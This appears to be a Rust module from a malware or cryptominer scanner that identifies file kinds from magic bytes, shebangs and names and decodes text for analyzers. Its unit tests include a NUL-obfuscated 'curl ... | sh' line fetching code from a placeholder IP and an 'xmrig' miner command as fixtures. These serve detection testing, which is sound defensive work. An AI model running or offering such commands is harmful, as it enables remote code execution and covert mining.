//! What a file is, from its first bytes, a shebang or its name (`sniff`), and how its text
//! reads to the text analyzers (`decode_text`: UTF-8 or UTF-16, NULs dropped). Analyzers use the
//! kind to pass over files they cannot judge; a rule set is a kind too, but only from the whole
//! file's structure, which `FileContext::new` decides.

/// What a file is, sniffed from its first bytes, a shebang or its name. Analyzers use it to skip
/// files they cannot judge.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FileKind {
    Empty,
    Elf,
    Pe,
    MachO,
    /// A universal (fat) Mach-O. 0xCAFEBABE also starts Java class files; see `sniff`.
    MachOFat,
    JavaClass,
    Wasm,
    Zip,
    Gzip,
    Xz,
    Bzip2,
    Tar,
    /// An `ar` archive: Debian packages and static libraries.
    Ar,
    /// A Chia proof-of-space plot file.
    ChiaPlot,
    Shell,
    PowerShell,
    Batch,
    VbScript,
    JavaScript,
    Python,
    Perl,
    Html,
    Json,
    Xml,
    /// YARA, Sigma, Snort or Suricata rules: full of indicators, never a miner.
    Rules,
    /// Other text.
    Text,
    /// Other binary data.
    Data,
}

impl FileKind {
    pub fn is_executable_format(self) -> bool {
        matches!(
            self,
            FileKind::Elf | FileKind::Pe | FileKind::MachO | FileKind::MachOFat
        )
    }

    pub fn is_script(self) -> bool {
        matches!(
            self,
            FileKind::Shell
                | FileKind::PowerShell
                | FileKind::Batch
                | FileKind::VbScript
                | FileKind::JavaScript
                | FileKind::Python
                | FileKind::Perl
        )
    }

    /// Text of any sort, including scripts, markup and configs.
    pub fn is_text(self) -> bool {
        self.is_script()
            || matches!(
                self,
                FileKind::Html | FileKind::Json | FileKind::Xml | FileKind::Rules | FileKind::Text
            )
    }

    pub fn is_archive(self) -> bool {
        matches!(
            self,
            FileKind::Zip
                | FileKind::Gzip
                | FileKind::Xz
                | FileKind::Bzip2
                | FileKind::Tar
                | FileKind::Ar
        )
    }

    pub fn as_str(self) -> &'static str {
        match self {
            FileKind::Empty => "empty",
            FileKind::Elf => "elf",
            FileKind::Pe => "pe",
            FileKind::MachO => "macho",
            FileKind::MachOFat => "macho_fat",
            FileKind::JavaClass => "java_class",
            FileKind::Wasm => "wasm",
            FileKind::Zip => "zip",
            FileKind::Gzip => "gzip",
            FileKind::Xz => "xz",
            FileKind::Bzip2 => "bzip2",
            FileKind::Tar => "tar",
            FileKind::Ar => "ar",
            FileKind::ChiaPlot => "chia_plot",
            FileKind::Shell => "shell",
            FileKind::PowerShell => "powershell",
            FileKind::Batch => "batch",
            FileKind::VbScript => "vbscript",
            FileKind::JavaScript => "javascript",
            FileKind::Python => "python",
            FileKind::Perl => "perl",
            FileKind::Html => "html",
            FileKind::Json => "json",
            FileKind::Xml => "xml",
            FileKind::Rules => "rules",
            FileKind::Text => "text",
            FileKind::Data => "data",
        }
    }
}

/// How many leading bytes the sniffer looks at, and how many a header-only view reads.
pub const SNIFF_LEN: usize = 4096;

/// Sniffs the kind from the first bytes and the file name (the last path component).
pub fn sniff(bytes: &[u8], name: &str) -> FileKind {
    if bytes.is_empty() {
        return FileKind::Empty;
    }
    let head = &bytes[..bytes.len().min(SNIFF_LEN)];
    if head.starts_with(b"\x7fELF") {
        return FileKind::Elf;
    }
    if head.starts_with(b"MZ") {
        return FileKind::Pe;
    }
    if head.len() >= 4 {
        let magic = u32::from_be_bytes([head[0], head[1], head[2], head[3]]);
        match magic {
            0xFEEDFACE | 0xFEEDFACF | 0xCEFAEDFE | 0xCFFAEDFE => return FileKind::MachO,
            0xCAFEBABE | 0xBEBAFECA => {
                // A fat header counts architectures (a handful); a class file has its version there
                // (major version 45 and up), so a small count means Mach-O.
                let count = if magic == 0xCAFEBABE && head.len() >= 8 {
                    u32::from_be_bytes([head[4], head[5], head[6], head[7]])
                } else if head.len() >= 8 {
                    u32::from_le_bytes([head[4], head[5], head[6], head[7]])
                } else {
                    u32::MAX
                };
                return if count > 0 && count < 30 {
                    FileKind::MachOFat
                } else {
                    FileKind::JavaClass
                };
            }
            _ => {}
        }
    }
    if head.starts_with(b"\0asm") {
        return FileKind::Wasm;
    }
    if head.starts_with(b"PK\x03\x04") || head.starts_with(b"PK\x05\x06") {
        return FileKind::Zip;
    }
    if head.starts_with(b"\x1f\x8b") {
        return FileKind::Gzip;
    }
    if head.starts_with(b"\xfd7zXZ\0") {
        return FileKind::Xz;
    }
    if head.starts_with(b"BZh") && head.len() > 3 && head[3].is_ascii_digit() {
        return FileKind::Bzip2;
    }
    if head.starts_with(b"!<arch>\n") {
        return FileKind::Ar;
    }
    if head.starts_with(b"Proof of Space Plot") {
        return FileKind::ChiaPlot;
    }
    if head.len() >= 263 && &head[257..262] == b"ustar" {
        return FileKind::Tar;
    }
    if let Some(decoded) = utf16le_text(head) {
        return sniff_text(decoded.as_bytes(), name);
    }
    // A script names its interpreter on its first line, and the interpreter runs it whatever
    // bytes follow (shells drop NULs): its structure, not the mix of its bytes, makes it one.
    let first_line = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
    let shebang = head.starts_with(b"#!") && !first_line.contains(&0);
    if !shebang && !looks_like_text(head) {
        return FileKind::Data;
    }
    sniff_text(head, name)
}

/// Decodes UTF-16LE text that has no byte-order mark (Windows Task Scheduler XML, .reg
/// exports): mostly ASCII-range characters with NUL high bytes. `None` when it is not that.
pub fn utf16le_text(b: &[u8]) -> Option<String> {
    if b.len() < 8 || b[1] != 0 || b[0] == 0 || !b[0].is_ascii() {
        return None;
    }
    let sample = &b[..b.len().min(1024) & !1];
    let pairs = sample.len() / 2;
    let ascii = sample
        .chunks_exact(2)
        .filter(|c| c[1] == 0 && c[0] != 0 && (c[0] >= 0x20 || c[0].is_ascii_whitespace()))
        .count();
    if ascii * 10 < pairs * 9 {
        return None;
    }
    Some(decode_utf16(&b[..b.len() & !1], u16::from_le_bytes))
}

fn sniff_text(head: &[u8], name: &str) -> FileKind {
    let lower_name = name.to_ascii_lowercase();
    if let Some(line) = head.strip_prefix(b"#!") {
        let end = memchr::memchr(b'\n', line).unwrap_or(line.len());
        let interp = String::from_utf8_lossy(&line[..end]);
        let interp = interp.as_ref();
        for (needle, kind) in [
            ("python", FileKind::Python),
            ("perl", FileKind::Perl),
            ("pwsh", FileKind::PowerShell),
            ("powershell", FileKind::PowerShell),
            ("node", FileKind::JavaScript),
            ("sh", FileKind::Shell),
        ] {
            if interp.contains(needle) {
                return kind;
            }
        }
    }
    let ext = lower_name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    let by_ext = match ext {
        "sh" | "bash" | "zsh" | "ksh" => Some(FileKind::Shell),
        "ps1" | "psm1" | "psd1" => Some(FileKind::PowerShell),
        "bat" | "cmd" => Some(FileKind::Batch),
        "vbs" | "vbe" => Some(FileKind::VbScript),
        "js" | "mjs" | "cjs" | "jse" => Some(FileKind::JavaScript),
        "py" | "pyw" => Some(FileKind::Python),
        "pl" | "pm" => Some(FileKind::Perl),
        "html" | "htm" | "xhtml" | "php" => Some(FileKind::Html),
        "json" | "jsonc" => Some(FileKind::Json),
        "xml" => Some(FileKind::Xml),
        _ => None,
    };
    if let Some(kind) = by_ext {
        return kind;
    }
    let text = String::from_utf8_lossy(head);
    let trimmed = text.trim_start_matches('\u{feff}').trim_start();
    if trimmed.starts_with('{') || trimmed.starts_with('[') {
        return FileKind::Json;
    }
    let lower = trimmed.to_ascii_lowercase();
    if lower.starts_with("<!doctype html")
        || lower.starts_with("<html")
        || lower.contains("<script")
    {
        return FileKind::Html;
    }
    if lower.starts_with("<?xml") {
        return FileKind::Xml;
    }
    if lower.starts_with("@echo off") {
        return FileKind::Batch;
    }
    // A rule set is recognised from the whole file's structure (`quoting`), never from a name
    // or a line: see `FileContext::new`.
    FileKind::Text
}

/// Text if it is UTF-16 with a BOM, or most of its bytes other than NULs are printable and NULs
/// are stray (at most one byte in four): one NUL near the start does not make a script data.
pub fn looks_like_text(head: &[u8]) -> bool {
    if head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") {
        return true;
    }
    let nuls = memchr::memchr_iter(0, head).count();
    let rest = head.len() - nuls;
    if rest == 0 || nuls * 4 > head.len() {
        return false;
    }
    let printable = head
        .iter()
        .filter(|&&b| b >= 0x20 || b == b'\n' || b == b'\r' || b == b'\t' || b == 0x0c || b == 0x1b)
        .count();
    printable * 100 >= rest * 95
}

/// Decodes text for the text analyzers; binary kinds give `None`. 8-bit text stops at a NUL.
pub fn decode_text(bytes: &[u8], kind: FileKind) -> Option<String> {
    if !kind.is_text() {
        return None;
    }
    if let Some(rest) = bytes.strip_prefix(b"\xff\xfe") {
        return Some(decode_utf16(rest, u16::from_le_bytes));
    }
    if let Some(rest) = bytes.strip_prefix(b"\xfe\xff") {
        return Some(decode_utf16(rest, u16::from_be_bytes));
    }
    if let Some(text) = utf16le_text(bytes) {
        return Some(text);
    }
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    Some(lossy_without_nuls(bytes))
}

/// 8-bit text as the analyzers read it: the whole file, NULs dropped (shells drop them too, so
/// `cu\0rl` runs curl, and a stray NUL must neither end the text nor split a word), and each
/// invalid UTF-8 sequence one `?`, so that a binary payload after a script (a self-extracting
/// installer) costs no more than its own size.
fn lossy_without_nuls(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        let valid = chunk.valid();
        if valid.contains('\0') {
            out.extend(valid.chars().filter(|&c| c != '\0'));
        } else {
            out.push_str(valid);
        }
        if !chunk.invalid().is_empty() {
            out.push('?');
        }
    }
    out
}

fn decode_utf16(bytes: &[u8], word: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|c| word([c[0], c[1]]));
    char::decode_utf16(units)
        .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sniffs_formats_from_bytes_not_names() {
        assert_eq!(sniff(b"\x7fELF\x02\x01", "notes.txt"), FileKind::Elf);
        assert_eq!(sniff(b"MZ\x90\0", "a.sh"), FileKind::Pe);
        assert_eq!(
            sniff(b"\xca\xfe\xba\xbe\0\0\0\x02", "x"),
            FileKind::MachOFat
        );
        assert_eq!(
            sniff(b"\xca\xfe\xba\xbe\0\0\0\x34", "x"),
            FileKind::JavaClass
        );
        assert_eq!(
            sniff(b"#!/usr/bin/env python3\nprint(1)\n", "run"),
            FileKind::Python
        );
        assert_eq!(sniff(b"#!/bin/bash\necho\n", "run"), FileKind::Shell);
        assert_eq!(sniff(b"  {\"pools\": []}", "config"), FileKind::Json);
        assert_eq!(sniff(b"hello\n", "a.ps1"), FileKind::PowerShell);
        assert_eq!(sniff(b"\0\x01\x02\x03", "a.ps1"), FileKind::Data);
        assert_eq!(sniff(b"", "a"), FileKind::Empty);
        assert_eq!(
            sniff(b"Proof of Space Plot\0\0", "x.plot"),
            FileKind::ChiaPlot
        );
        let rules = b"rule a { strings: $a = \"x\" condition: $a }";
        // A rule set is a kind only by its whole structure (`FileContext::new`), never by a name.
        assert_eq!(sniff(rules, "x.yar"), FileKind::Text);
    }

    #[test]
    fn nuls_neither_end_nor_hide_text() {
        // One NUL near the start: still a script, read whole, the NUL dropped as a shell does.
        let script = b"#!/bin/sh\n\0cu\0rl -s http://203.0.113.5/x | sh\n";
        assert_eq!(sniff(script, "run"), FileKind::Shell);
        assert_eq!(sniff(&script[10..], "run.txt"), FileKind::Text);
        let text = decode_text(script, FileKind::Shell).unwrap();
        assert!(
            text.contains("curl -s http://203.0.113.5/x | sh"),
            "{text:?}"
        );
        // Text after a binary payload is read too; each invalid sequence is one `?`.
        let mut data = b"#!/bin/sh\ntail -n +4 \"$0\" | tar xz\n".to_vec();
        data.extend_from_slice(b"\x1f\x8b\x08\0\0\0\xff\xfe\0\0\nxmrig --donate-level 1\n");
        let text = decode_text(&data, FileKind::Shell).unwrap();
        assert!(
            text.ends_with("\x1f?\x08??\nxmrig --donate-level 1\n"),
            "{text:?}"
        );
        // Mostly NULs without a shebang is still binary data.
        assert_eq!(sniff(b"ab\0\0\0\0\0\0cd\0\0", "x"), FileKind::Data);
    }

    #[test]
    fn decodes_utf16_text() {
        let mut data = vec![0xff, 0xfe];
        for c in "<Task>schtasks</Task>".encode_utf16() {
            data.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(sniff(&data, "task"), FileKind::Text);
        assert_eq!(
            decode_text(&data, FileKind::Text).unwrap(),
            "<Task>schtasks</Task>"
        );
    }

    #[test]
    fn sniffs_utf16le_without_bom_as_text() {
        let mut data = Vec::new();
        for c in "<?xml version=\"1.0\"?>\r\n<Task><Exec>x</Exec></Task>".encode_utf16() {
            data.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(sniff(&data, "MinerTask"), FileKind::Xml);
        assert!(decode_text(&data, FileKind::Xml)
            .unwrap()
            .contains("<Task>"));
        // Binary data with many NULs is not mistaken for it.
        assert_eq!(utf16le_text(b"\x01\x00\x02\x00\x03\x00\x04\x00"), None);
    }
}
